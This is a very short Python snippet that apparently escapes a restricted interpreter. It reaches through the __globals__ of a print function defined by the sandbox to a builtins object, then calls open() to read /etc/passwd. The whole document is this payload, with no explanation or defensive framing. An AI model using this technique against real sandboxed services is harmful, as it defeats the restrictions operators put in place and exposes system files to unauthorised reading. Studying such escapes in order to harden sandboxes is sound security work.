# a function the sandbox defined (print) and its globals
b = print.__globals__["builtins"]
b.open("/etc/passwd").read()
